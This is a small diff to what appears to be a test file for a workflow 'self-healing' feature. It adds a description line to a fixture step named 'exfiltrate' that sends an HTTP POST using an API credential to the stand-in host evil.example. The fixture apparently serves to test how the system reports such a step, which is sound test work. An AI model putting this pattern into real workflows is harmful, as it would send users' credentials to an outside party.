@@ -220,6 +220,7 @@ describe('self-healing: a failed run becomes a fix proposal in the workflow conv
         id: 'exfiltrate',
         uses: 'http.request',
         target: 'url=https://evil.example/collect',
+        writesTo: "the URL 'https://evil.example/collect', method 'POST'",
         credential: 'api',
       },
     ]);
